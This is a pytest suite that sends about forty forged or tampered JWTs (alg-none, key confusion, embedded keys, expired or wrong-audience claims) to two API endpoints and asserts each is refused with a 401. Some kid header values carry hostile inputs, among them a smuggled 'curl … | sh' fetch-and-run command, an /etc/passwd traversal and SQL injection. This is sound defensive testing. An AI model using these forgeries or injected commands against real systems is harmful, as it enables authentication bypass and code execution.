"""Forged and tampered access tokens against a read and a write endpoint: every one is a 401
problem, and no table changes (the module's data snapshot)."""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import time
from collections.abc import Callable
from typing import Any

import httpx
import jwt
import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec, rsa

from kamioi.settings import Settings
from local_stack.keys import KeyMaterial

pytestmark = pytest.mark.usefixtures("data_untouched")

Forge = Callable[[dict[str, Any], KeyMaterial, Settings], str]
TARGETS = (
    ("GET", "/v1/stats/dashboard", None),
    ("POST", "/v1/mappings/bulk-review", {"decision": "approved", "filter": {"category": "FOOD_AND_DRINK"}}),
)


def b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).decode().rstrip("=")


def unsigned(header: dict[str, Any], claims: dict[str, Any], signature: bytes = b"") -> str:
    return f"{b64(json.dumps(header).encode())}.{b64(json.dumps(claims).encode())}.{b64(signature)}"


def hmac_signed(header: dict[str, Any], claims: dict[str, Any], secret: bytes) -> str:
    """HS256 by hand: PyJWT itself refuses a PEM/JWK as an HMAC secret, an attacker's tool does not."""
    signing_input = f"{b64(json.dumps(header).encode())}.{b64(json.dumps(claims).encode())}"
    signature = hmac.new(secret, signing_input.encode(), hashlib.sha256).digest()
    return f"{signing_input}.{b64(signature)}"


def own_key(claims: dict[str, Any], keys: KeyMaterial, **headers: Any) -> str:
    return jwt.encode(claims, keys.private_key_pem, algorithm="ES256", headers={"kid": keys.kid, **headers})


def impostor_es256(claims: dict[str, Any], headers: dict[str, Any]) -> str:
    return jwt.encode(claims, ec.generate_private_key(ec.SECP256R1()), algorithm="ES256", headers=headers)


def public_pem(keys: KeyMaterial) -> bytes:
    private = serialization.load_pem_private_key(keys.private_key_pem, password=None)
    return private.public_key().public_bytes(
        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
    )


def swap_payload(token: str, claims: dict[str, Any]) -> str:
    header, _, signature = token.split(".")
    return f"{header}.{b64(json.dumps(claims).encode())}.{signature}"


def attacker_jwk() -> dict[str, Any]:
    key = ec.generate_private_key(ec.SECP256R1())
    return {**json.loads(jwt.algorithms.ECAlgorithm.to_jwk(key.public_key())), "kid": "attacker"}


NOW = int(time.time())
ATTACKS: dict[str, Forge] = {
    # alg none, in every spelling, with and without a signature part
    "alg none": lambda c, k, s: unsigned({"alg": "none", "typ": "JWT", "kid": k.kid}, c),
    "alg None": lambda c, k, s: unsigned({"alg": "None", "kid": k.kid}, c),
    "alg NONE with signature": lambda c, k, s: unsigned({"alg": "NONE"}, c, b"sig"),
    "alg missing": lambda c, k, s: unsigned({"typ": "JWT", "kid": k.kid}, c),
    # RS/HS key confusion: the public key (PEM, JWK, JWKS) used as the HMAC secret
    "HS256 keyed with public PEM": lambda c, k, s: hmac_signed({"alg": "HS256", "kid": k.kid}, c, public_pem(k)),
    "HS256 keyed with public JWK": lambda c, k, s: hmac_signed(
        {"alg": "HS256", "kid": k.kid}, c, json.dumps(k.jwks["keys"][0]).encode()
    ),
    "HS256 keyed with JWKS document": lambda c, k, s: hmac_signed({"alg": "HS256"}, c, json.dumps(k.jwks).encode()),
    "HS256 keyed with kid": lambda c, k, s: hmac_signed({"alg": "HS256", "kid": k.kid}, c, k.kid.encode()),
    "RS256 header on the ES256 kid": lambda c, k, s: jwt.encode(
        c, rsa.generate_private_key(public_exponent=65537, key_size=2048), algorithm="RS256", headers={"kid": k.kid}
    ),
    "ES384 header": lambda c, k, s: unsigned({"alg": "ES384", "kid": k.kid}, c, b"x" * 96),
    # kid injection and traversal
    "kid path traversal": lambda c, k, s: impostor_es256(c, {"kid": "../../../../../../etc/passwd"}),
    "kid /dev/null": lambda c, k, s: hmac_signed({"alg": "HS256", "kid": "/dev/null"}, c, b""),
    "kid SQL injection": lambda c, k, s: impostor_es256(c, {"kid": f"{k.kid}' OR '1'='1"}),
    "kid command injection": lambda c, k, s: impostor_es256(c, {"kid": "x; curl http://127.0.0.1:9/ | sh"}),
    "kid URL": lambda c, k, s: impostor_es256(c, {"kid": "http://127.0.0.1:9/jwks.json"}),
    "kid NUL byte": lambda c, k, s: impostor_es256(c, {"kid": f"{k.kid}\x00"}),
    "kid 64 KB": lambda c, k, s: impostor_es256(c, {"kid": "k" * 65536}),
    "kid not a string": lambda c, k, s: unsigned({"alg": "ES256", "kid": [k.kid]}, c, b"x" * 64),
    # keys the token brings itself
    "embedded jwk header": lambda c, k, s: impostor_es256(c, {"kid": k.kid, "jwk": attacker_jwk()}),
    "jku header": lambda c, k, s: impostor_es256(c, {"kid": k.kid, "jku": "http://127.0.0.1:9/jwks.json"}),
    "x5u header": lambda c, k, s: impostor_es256(c, {"kid": k.kid, "x5u": "http://127.0.0.1:9/cert.pem"}),
    "another project's key": lambda c, k, s: impostor_es256(c, {"kid": "other-project-key"}),
    "our kid, another key": lambda c, k, s: impostor_es256(c, {"kid": k.kid}),
    # tampering with a genuine token
    "signature stripped": lambda c, k, s: own_key(c, k).rsplit(".", 1)[0] + ".",
    "payload swapped": lambda c, k, s: swap_payload(own_key(c, k), {**c, "user_role": "admin", "sub": "x"}),
    "critical header": lambda c, k, s: own_key(c, k, crit=["exp"]),
    # claims
    "expired": lambda c, k, s: own_key({**c, "iat": NOW - 7200, "exp": NOW - 3600}, k),
    "not yet valid": lambda c, k, s: own_key({**c, "nbf": NOW + 3600}, k),
    "issued in the future": lambda c, k, s: own_key({**c, "iat": NOW + 3600}, k),
    "no exp": lambda c, k, s: own_key({key: v for key, v in c.items() if key != "exp"}, k),
    "other project's iss": lambda c, k, s: own_key({**c, "iss": "https://abcdefghijklmnop.supabase.co/auth/v1"}, k),
    "no iss": lambda c, k, s: own_key({key: v for key, v in c.items() if key != "iss"}, k),
    "wrong aud": lambda c, k, s: own_key({**c, "aud": "service_role"}, k),
    "aud list without ours": lambda c, k, s: own_key({**c, "aud": ["anon", "other"]}, k),
    "anon role": lambda c, k, s: own_key({**c, "role": "anon"}, k),
    "service_role claim": lambda c, k, s: own_key({**c, "role": "service_role"}, k),
    # not tokens at all
    "two segments": lambda c, k, s: ".".join(own_key(c, k).split(".")[:2]),
    "JWE-shaped": lambda c, k, s: ".".join(["eyJhbGciOiJkaXIiLCJlbmMiOiJBMjU2R0NNIn0", "", "aXY", "Y3Q", "dGFn"]),
    "garbage": lambda c, k, s: "not.a.token",
    "200 KB token": lambda c, k, s: own_key({**c, "pad": "x" * 200_000}, k)[:-4] + "AAAA",
    "wrong sb_secret key": lambda c, k, s: "sb_secret_" + "A" * 32,
    "publishable key as bearer": lambda c, k, s: k.publishable_key,
}


@pytest.mark.parametrize("attack", ATTACKS, ids=list(ATTACKS))
async def test_forged_token_is_refused(
    attack: str,
    client: httpx.AsyncClient,
    keys: KeyMaterial,
    settings: Settings,
    admin_id: str,
    claims_for: Callable[..., dict[str, Any]],
) -> None:
    token = ATTACKS[attack](claims_for(admin_id), keys, settings)
    for method, path, body in TARGETS:
        started = time.monotonic()
        response = await client.request(method, path, json=body, headers={"Authorization": f"Bearer {token}"})
        assert response.status_code == 401, (attack, path, response.text)
        assert response.headers["content-type"] == "application/problem+json"
        assert response.headers["www-authenticate"].startswith('Bearer error="invalid_token"')
        assert time.monotonic() - started < 2.0, "a refused token must not cost a slow path"


async def test_a_genuine_admin_token_passes(client: httpx.AsyncClient, admin_headers: dict[str, str]) -> None:
    """The control: the same request with a genuine token is served, so the 401s above are the forgeries'."""
    assert (await client.get("/v1/stats/dashboard", headers=admin_headers)).status_code == 200
